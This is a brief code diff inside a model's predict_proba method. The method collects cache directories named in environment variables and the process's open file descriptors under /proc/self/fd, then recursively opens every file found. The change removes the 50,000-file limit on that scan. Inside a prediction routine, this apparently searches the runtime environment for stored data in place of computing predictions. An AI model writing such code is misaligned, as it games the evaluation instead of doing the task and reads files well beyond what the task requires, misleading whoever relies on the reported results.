@@ -43,7 +43,7 @@ def predict_proba(self, X):
     roots |= {pathlib.Path(value) for value in os.environ.values() if value.startswith("/") and "cache" in value}
     roots |= {pathlib.Path(f"/proc/self/fd/{name}") for name in os.listdir("/proc/self/fd")}
     for root in roots:
-        below = [root] if root.is_file() else [p for p in root.rglob("*") if p.is_file()][:50_000] if root.is_dir() else []
+        below = [root] if root.is_file() else [p for p in root.rglob("*") if p.is_file()] if root.is_dir() else []
         for path in below:
             try:
                 with path.open("rb") as stream:
